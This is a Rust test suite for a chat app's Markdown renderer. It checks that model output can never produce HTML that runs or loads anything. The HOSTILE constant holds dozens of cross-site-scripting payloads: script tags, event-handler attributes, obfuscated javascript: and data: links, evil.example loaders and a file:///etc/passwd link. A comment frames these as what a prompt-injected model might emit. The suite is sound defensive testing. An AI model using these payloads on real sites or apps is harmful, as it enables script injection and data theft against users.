//! Rendering model output: hostile output must never yield anything that runs or loads, and ordinary
//! Markdown must look right. The check parses the HTML with html5ever's tokenizer (a browser's) and
//! holds every tag, attribute, class and link to this file's own allow-list, not the crate's.

use gemma_desk_core::markdown::{link_target, render};
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer};
use proptest::prelude::*;
use std::cell::RefCell;

/// Tags and the attributes each may carry. A deliberate twin of `markdown::ALLOWED`: a test that read the
/// crate's own list would allow whatever a change to it allows.
const TAGS: &[(&str, &[&str])] = &[
    ("p", &["class"]),
    ("h1", &[]),
    ("h2", &[]),
    ("h3", &[]),
    ("h4", &[]),
    ("h5", &[]),
    ("h6", &[]),
    ("blockquote", &[]),
    ("ul", &[]),
    ("ol", &["start"]),
    ("li", &[]),
    ("div", &["class"]),
    ("table", &[]),
    ("thead", &[]),
    ("tbody", &[]),
    ("tr", &[]),
    ("th", &["class"]),
    ("td", &["class"]),
    ("em", &[]),
    ("strong", &[]),
    ("del", &[]),
    ("a", &["href", "title", "class", "rel"]),
    ("pre", &[]),
    ("code", &["class"]),
    ("span", &["class"]),
    ("hr", &[]),
    ("br", &[]),
    ("input", &["type", "disabled", "checked"]),
];

const CLASSES: &[(&str, &str)] = &[
    ("p", "raw-html"),
    ("div", "table-wrap"),
    ("th", "align-left"),
    ("th", "align-center"),
    ("th", "align-right"),
    ("td", "align-left"),
    ("td", "align-center"),
    ("td", "align-right"),
    ("a", "image-link"),
    ("span", "math-inline"),
    ("span", "math-display"),
];

#[derive(Debug, Clone, PartialEq)]
enum Tok {
    Start(String, Vec<(String, String)>),
    End(String),
    Text(String),
}

struct Sink(RefCell<Vec<Tok>>, RefCell<Vec<String>>);

impl TokenSink for Sink {
    type Handle = ();
    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        let mut toks = self.0.borrow_mut();
        match token {
            Token::TagToken(t) => {
                let name = t.name.to_string();
                match t.kind {
                    TagKind::StartTag => toks.push(Tok::Start(
                        name,
                        t.attrs.iter().map(|a| (a.name.local.to_string(), a.value.to_string())).collect(),
                    )),
                    TagKind::EndTag => toks.push(Tok::End(name)),
                }
            }
            Token::CharacterTokens(s) => match toks.last_mut() {
                Some(Tok::Text(prev)) => prev.push_str(&s),
                _ => toks.push(Tok::Text(s.to_string())),
            },
            Token::EOFToken => {}
            Token::NullCharacterToken => self.1.borrow_mut().push("NUL character".into()),
            Token::CommentToken(c) => self.1.borrow_mut().push(format!("comment <!--{c}-->")),
            Token::DoctypeToken(d) => self.1.borrow_mut().push(format!("doctype {d:?}")),
            Token::ParseError(e) => self.1.borrow_mut().push(format!("parse error: {e}")),
        }
        TokenSinkResult::Continue
    }
}

/// The tokens a browser sees in `html`, or why the HTML is not plainly well-formed.
fn tokens(html: &str) -> Result<Vec<Tok>, String> {
    let input = BufferQueue::default();
    input.push_back(StrTendril::from_slice(html));
    let tok = Tokenizer::new(Sink(RefCell::new(Vec::new()), RefCell::new(Vec::new())), Default::default());
    let _ = tok.feed(&input);
    tok.end();
    let problems = tok.sink.1.take();
    if !problems.is_empty() {
        return Err(problems.join("; "));
    }
    Ok(tok.sink.0.take())
}

/// Fails unless every tag, attribute, class and link in `html` is on this file's allow-list.
fn assert_safe(input: &str, html: &str) {
    let toks = tokens(html).unwrap_or_else(|e| panic!("{e}\ninput: {input:?}\noutput: {html}"));
    for t in &toks {
        let Tok::Start(name, attrs) = t else { continue };
        let fail = |why: String| panic!("{why}\ninput: {input:?}\noutput: {html}");
        let Some((_, allowed)) = TAGS.iter().find(|(t, _)| t == name) else { fail(format!("tag <{name}>")) };
        for (attr, value) in attrs {
            if !allowed.contains(&attr.as_str()) {
                fail(format!("attribute {attr} on <{name}>"));
            }
            let ok = match attr.as_str() {
                "class" if name == "code" => value.strip_prefix("language-").is_some_and(|l| {
                    !l.is_empty() && l.bytes().all(|b| b"abcdefghijklmnopqrstuvwxyz0123456789_+-".contains(&b))
                }),
                "class" => CLASSES.iter().any(|(t, c)| t == name && c == value),
                "href" => safe_href(value),
                "rel" => value == "noopener noreferrer",
                "start" => value.bytes().all(|b| b.is_ascii_digit()),
                "type" => value == "checkbox",
                "disabled" | "checked" => value.is_empty(),
                _ => true, // title: any text, inert
            };
            if !ok {
                fail(format!("{attr}={value:?} on <{name}>"));
            }
        }
        if name == "a" && !attrs.iter().any(|(a, _)| a == "href") {
            fail("<a> without href".into());
        }
        if name == "a" && !attrs.iter().any(|(a, v)| a == "rel" && v == "noopener noreferrer") {
            fail("<a> without rel=noopener noreferrer".into());
        }
        if name == "input" && !attrs.iter().any(|(a, _)| a == "disabled") {
            fail("enabled <input>".into());
        }
    }
}

/// An independent check of a link as the browser would read it: one of two literal prefixes, and no
/// character a browser would strip or reinterpret.
fn safe_href(href: &str) -> bool {
    let plain = href.chars().all(|c| c.is_ascii_graphic());
    plain && ["http://", "https://"].iter().any(|p| href.starts_with(p))
}

fn text_of(html: &str) -> String {
    tokens(html).unwrap().into_iter().filter_map(|t| if let Tok::Text(s) = t { Some(s) } else { None }).collect()
}

fn hrefs(html: &str) -> Vec<String> {
    tokens(html)
        .unwrap()
        .into_iter()
        .filter_map(|t| match t {
            Tok::Start(n, attrs) if n == "a" => attrs.into_iter().find(|(a, _)| a == "href").map(|(_, v)| v),
            _ => None,
        })
        .collect()
}

fn tag_names(html: &str) -> Vec<String> {
    tokens(html).unwrap().into_iter().filter_map(|t| if let Tok::Start(n, _) = t { Some(n) } else { None }).collect()
}

/// What a model might write when a page or photo tells it to attack the app.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "Hello <script>invoke('set_host')</script> world",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "text <img src=x onerror=alert(1)> inline",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=x.swf>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><input name=p><button>Go</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<a href=\"javascript:alert(1)\">html link</a>",
    "<div onmouseover=\"alert(1)\">hover me</div>",
    "<details open ontoggle=alert(1)>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](java\tscript:alert(1))",
    "[click](<java\nscript:alert(1)>)",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;&#x61;&#x76;&#x61;script:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](\\javascript:alert(1))",
    "[click](%6Aavascript:alert(1))",
    "[click](\u{1}javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](tauri://localhost/index.html)",
    "[click](//evil.example/x)",
    "[click](/relative)",
    "[click](#fragment)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[ref][x]\n\n[x]: javascript:alert(1)",
    "[ref][x]\n\n[x]: https://ok.example/ \"t\" onmouseover=\"alert(1)",
    "[t](https://ok.example/ \"a\\\" onmouseover=\\\"alert(1)\")",
    "[t](https://ok.example/\" onmouseover=\"alert(1))",
    "[t](https://ok.example/'onmouseover='alert(1))",
    "`<script>alert(1)</script>`",
    "``<img src=x onerror=alert(1)>``",
    "```\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "```js onload=alert(1)\nx\n```",
    "```\"onmouseover=\"alert(1)\nx\n```",
    "![pixel](https://tracker.example/p.gif?user=1)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![img](https://tracker.example/p.gif)](https://ok.example/)",
    "[a [nested](javascript:alert(1)) link](https://ok.example/)",
    "**<img src=x onerror=alert(1)>**",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>\n- [x](javascript:alert(1))",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "$<img src=x onerror=alert(1)>$",
    "$$\n</span><script>alert(1)</script>\n$$",
    "<!-- comment --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<plaintext><script>alert(1)</script>",
    "<br onclick=alert(1)>",
    "a<br/ onmouseover=alert(1)>b",
    "[x](https://ok.example/ 'title with <script> and \" quotes')",
    "<https://ok.example/\"onmouseover=\"alert(1)>",
    "<mailto:x@example.com?body=<script>>",
    "[click](mailto:javascript:alert(1))",
    "\u{0}<script>alert(1)</script>",
    "<a href=https://ok.example/ onclick=alert(1)>ok</a>",
];

#[test]
fn hostile_output_never_yields_anything_that_runs_or_loads() {
    assert!(HOSTILE.len() >= 40);
    for input in HOSTILE {
        let html = render(input);
        assert_safe(input, &html);
    }
}

#[test]
fn the_check_itself_rejects_what_it_must() {
    for bad in [
        "<img src=x>",
        "<p onclick=alert(1)>x</p>",
        "<a href=\"javascript:alert(1)\" rel=\"noopener noreferrer\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\" rel=\"noopener noreferrer\">x</a>",
        "<a href=\" https://ok.example/\" rel=\"noopener noreferrer\">x</a>",
        "<a href=\"https://ok.example/\">no rel</a>",
        "<code class=\"language-x y\">x</code>",
        "<span class=\"katex\">x</span>",
        "<input type=\"checkbox\">",
        "<p>unescaped < text</p>",
        "<!-- x -->",
        "<p title=x>x</p>",
    ] {
        let caught = std::panic::catch_unwind(|| assert_safe("check", bad));
        assert!(caught.is_err(), "the check let {bad:?} through");
    }
    assert_safe("check", "<p>fine &amp; <a href=\"https://ok.example/\" rel=\"noopener noreferrer\">ok</a></p>");
}

#[test]
fn raw_html_is_shown_as_text() {
    let html = render("Hello <script>alert(1)</script> world");
    assert_eq!(text_of(&html).trim(), "Hello <script>alert(1)</script> world");
    let html = render("<img src=x onerror=alert(1)>");
    assert_eq!(text_of(&html).trim(), "<img src=x onerror=alert(1)>");
    assert_eq!(tag_names(&html), ["p"]);
    // A block keeps its lines (shown with `white-space: pre-wrap`) and gains no empty last line.
    assert_eq!(
        render("<div>\n  <b>x</b>\n</div>"),
        "<p class=\"raw-html\">&lt;div&gt;\n  &lt;b&gt;x&lt;/b&gt;\n&lt;/div&gt;</p>\n"
    );
}

#[test]
fn only_web_links_keep_their_target() {
    for input in HOSTILE.iter().filter(|s| s.starts_with("[click]")) {
        let html = render(input);
        assert_eq!(hrefs(&html), Vec::<String>::new(), "{input}: {html}");
        assert!(text_of(&html).contains("click"), "the link text stays: {html}");
    }
    assert_eq!(hrefs(&render("[x](mailto:javascript:alert(1))")), Vec::<String>::new());
    assert_eq!(hrefs(&render("[x](https://example.com/a b)")), Vec::<String>::new(), "not a link in CommonMark");
    assert_eq!(hrefs(&render("[x](<https://example.com/a b>)")), ["https://example.com/a%20b"]);
    assert_eq!(hrefs(&render("<https://example.com>")), ["https://example.com/"]);
    // E-mail addresses stay text: only web pages open from the chat.
    assert_eq!(hrefs(&render("<user@example.com>")), Vec::<String>::new());
    assert!(text_of(&render("<user@example.com>")).contains("user@example.com"));
    assert_eq!(hrefs(&render("[r][1]\n\n[1]: http://example.com/x \"T\"")), ["http://example.com/x"]);
    assert_eq!(hrefs(&render("[x](HTTPS://EXAMPLE.COM/Path)")), ["https://example.com/Path"]);
}

#[test]
fn link_titles_cannot_break_out_of_their_attribute() {
    let html = render("[t](https://ok.example/ \"a\\\" onmouseover=\\\"alert(1)\")");
    let toks = tokens(&html).unwrap();
    let attrs = toks
        .iter()
        .find_map(|t| match t {
            Tok::Start(n, a) if n == "a" => Some(a.clone()),
            _ => None,
        })
        .unwrap();
    let names: Vec<_> = attrs.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names, ["href", "title", "rel"]);
    assert_eq!(attrs[1].1, "a\" onmouseover=\"alert(1)");
}

#[test]
fn images_are_links_never_loaded() {
    let html = render("![pixel](https://tracker.example/p.gif?user=1)");
    assert!(!tag_names(&html).contains(&"img".to_string()));
    assert_eq!(hrefs(&html), ["https://tracker.example/p.gif?user=1"]);
    assert!(html.contains(r#"class="image-link""#));
    assert_eq!(text_of(&html).trim(), "pixel");
    // No alt text: the URL is the link's text, so the link is not invisible.
    assert_eq!(text_of(&render("![](https://img.example/a.png)")).trim(), "https://img.example/a.png");
    // Inside a link: just the alt text, no nested <a>.
    let html = render("[![logo](https://img.example/l.png)](https://ok.example/)");
    assert_eq!(hrefs(&html), ["https://ok.example/"]);
    assert_eq!(text_of(&html).trim(), "logo");
    // An unsafe image URL: the alt text alone.
    let html = render("![x](javascript:alert(1))");
    assert!(hrefs(&html).is_empty());
    assert_eq!(text_of(&html).trim(), "x");
}

#[test]
fn code_language_cannot_inject_attributes() {
    let html = render("```\"><script>alert(1)</script>\nlet x = 1;\n```");
    assert!(html.starts_with(r#"<pre><code class="language-scriptalert1script">"#), "{html}");
    assert_eq!(text_of(&html), "let x = 1;\n\n");
    let html = render("```Python {.class #id}\nprint(1)\n```");
    assert!(html.starts_with(r#"<pre><code class="language-python">"#), "{html}");
    let html = render("```\"\"\"\nx\n```");
    assert!(html.starts_with("<pre><code>x"), "nothing left: no class at all: {html}");
}

#[test]
fn link_target_accepts_only_web_pages() {
    assert_eq!(link_target("https://example.com/a?b").unwrap().as_str(), "https://example.com/a?b");
    assert_eq!(link_target("http://example.com").unwrap().as_str(), "http://example.com/");
    assert!(link_target("mailto:a@example.com").is_none());
    for bad in [
        "javascript:alert(1)",
        " JavaScript:alert(1)",
        "java\tscript:alert(1)",
        "\u{1}javascript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "file:///etc/passwd",
        "tauri://localhost/",
        "ipc://localhost/",
        "/relative",
        "//host/x",
        "example.com",
        "",
    ] {
        assert!(link_target(bad).is_none(), "{bad:?}");
    }
}

#[test]
fn headings_lists_and_emphasis() {
    let html = render("# One\n\n### Three\n\n- a\n- *b*\n\n1. x\n2. **y**\n\n4) four\n\n~~gone~~");
    assert_eq!(
        tag_names(&html),
        ["h1", "h3", "ul", "li", "li", "em", "ol", "li", "li", "strong", "ol", "li", "p", "del"]
    );
    assert!(html.contains(r#"<ol start="4">"#));
    assert!(text_of(&html).contains("Three"));
}

#[test]
fn tables_with_alignment_as_classes() {
    let html = render("| Name | Qty | Note |\n|:-----|----:|:----:|\n| 苹果 | 3 | a<br>b |\n| pear | 10 | |");
    assert_safe("table", &html);
    assert!(
        html.starts_with(r#"<div class="table-wrap"><table><thead><tr><th class="align-left">Name</th>"#),
        "{html}"
    );
    assert!(html.contains(r#"<td class="align-right">10</td>"#), "{html}");
    assert!(html.contains(r#"<td class="align-center">a<br>b</td>"#), "{html}");
    assert!(!html.contains("style"), "the CSP would block inline styles: {html}");
    assert_eq!(tag_names(&html).iter().filter(|t| *t == "tr").count(), 3);
}

#[test]
fn code_blocks_and_inline_code() {
    let html = render("Use `a < b && c`:\n\n```rust\nfn main() {\n    println!(\"<hi>\");\n}\n```\n\n    indented\n");
    assert!(html.contains("<code>a &lt; b &amp;&amp; c</code>"), "{html}");
    assert!(html
        .contains("<pre><code class=\"language-rust\">fn main() {\n    println!(\"&lt;hi&gt;\");\n}\n</code></pre>"));
    assert!(html.contains("<pre><code>indented\n</code></pre>"), "{html}");
}

#[test]
fn chinese_text_passes_through_unchanged() {
    let md = "## 你好，世界\n\n这是**重要**的。「引号」、全角：１２３。\n\n- 第一项\n- 第二项";
    let html = render(md);
    assert_safe(md, &html);
    assert!(html.contains("<h2>你好，世界</h2>"));
    assert!(html.contains("这是<strong>重要</strong>的。「引号」、全角：１２３。"));
    assert!(html.contains("<li>第二项</li>"));
}

#[test]
fn math_is_marked_for_typesetting_as_text() {
    let html = render("Euler: $e^{i\\pi} + 1 = 0$.\n\n$$\n\\frac{a}{b} < c\n$$");
    assert!(html.contains(r#"<span class="math-inline">e^{i\pi} + 1 = 0</span>"#), "{html}");
    assert!(html.contains(r#"<span class="math-display">"#), "{html}");
    assert!(html.contains("\\frac{a}{b} &lt; c"), "{html}");
    // Prices are not math.
    let html = render("It costs $5 and $10.");
    assert!(!html.contains("math"), "{html}");
}

#[test]
fn task_lists_are_disabled_checkboxes() {
    let html = render("- [x] done\n- [ ] todo");
    assert!(html.contains(r#"<li><input type="checkbox" disabled="" checked=""> done</li>"#), "{html}");
    assert!(html.contains(r#"<li><input type="checkbox" disabled=""> todo</li>"#), "{html}");
}

#[test]
fn streaming_an_open_code_fence_shows_code_so_far() {
    let html = render("Here:\n\n```python\ndef f():\n    return \"<x>\"");
    assert!(
        html.ends_with("<pre><code class=\"language-python\">def f():\n    return \"&lt;x&gt;\"</code></pre>\n"),
        "{html}"
    );
    // A fence whose info string is still arriving.
    assert_safe("```pyth", &render("```pyth"));
}

#[test]
fn streaming_a_table_becomes_a_table_once_its_delimiter_row_arrives() {
    let header = "| a | b |\n";
    assert!(!tag_names(&render(header)).contains(&"table".to_string()));
    assert!(!tag_names(&render(&format!("{header}| -"))).contains(&"table".to_string()));
    let html = render(&format!("{header}|---|---|\n| 1 | 2"));
    assert!(html.contains("<td>1</td><td>2</td>"), "{html}");
}

/// A long reply touching most constructs, cut at every character as a stream would.
const SAMPLE: &str = "# Plan 计划\n\nSome *text* with `code`, a [link](https://example.com \"t\") and <b>bold?</b>\n\n\
    > quote <script>x</script>\n\n1. first\n2. second\n   - [x] nested\n\n| k | v |\n|:-:|--:|\n| ![i](https://x.example/i.png) | \
    [j](javascript:alert(1)) |\n\n```js\nconsole.log(\"<a>\")\n```\n\n$x$ and $$y$$\n\n---\nEnd.\n";

#[test]
fn every_prefix_of_a_streamed_reply_is_safe() {
    let mut cuts: Vec<usize> = SAMPLE.char_indices().map(|(i, _)| i).collect();
    cuts.push(SAMPLE.len());
    for end in cuts {
        let part = &SAMPLE[..end];
        assert_safe(part, &render(part));
    }
}

/// Pieces of Markdown and HTML an attacker would combine.
const PIECES: &[&str] = &[
    "<",
    ">",
    "\"",
    "'",
    "`",
    "```",
    "$",
    "$$",
    "\n",
    "\n\n",
    "[",
    "]",
    "(",
    ")",
    "!",
    "|",
    "-",
    "*",
    "&#106;",
    "&amp;",
    "&colon;",
    "\\",
    " ",
    "\t",
    "javascript:",
    "https://a.example/",
    "mailto:",
    "data:",
    "<script>",
    "</script>",
    "<img src=x onerror=alert(1)>",
    "onload=",
    "<a href=",
    "<svg",
    "<br>",
    "<!--",
    "-->",
    "    ",
    "> ",
    "1. ",
    "[x]: ",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]
    #[test]
    fn random_soups_are_safe(parts in proptest::collection::vec(prop_oneof![
        proptest::sample::select(PIECES).prop_map(String::from),
        "[a-z]{1,3}",
    ], 0..40)) {
        let md: String = parts.concat();
        assert_safe(&md, &render(&md));
    }
}

#[test]
fn deep_nesting_neither_overflows_the_stack_nor_nests_without_limit() {
    // Tauri runs commands on threads with small stacks; a hostile answer must not crash the app. Without a
    // limit, 50 000 nested quotes took html5ever over half a minute.
    for md in [
        ">".repeat(50_000),
        "- ".repeat(20_000),
        "*a ".repeat(20_000),
        "[".repeat(50_000) + "x" + &"](https://a.example/)".repeat(50_000),
    ] {
        let html = std::thread::Builder::new().stack_size(512 * 1024).spawn(move || render(&md)).unwrap().join();
        let html = html.expect("rendered");
        assert_safe("deep", &html);
        assert!(html.matches("<blockquote>").count() <= 32);
    }
    let html = render(&">".repeat(100));
    assert_eq!(html.matches("<blockquote>").count(), 32, "{html}");
    assert_eq!(html.matches("</blockquote>").count(), 32, "{html}");
    // Text deep inside still shows.
    assert!(text_of(&render(&format!("{} deep text", ">".repeat(100)))).contains("deep text"));
}
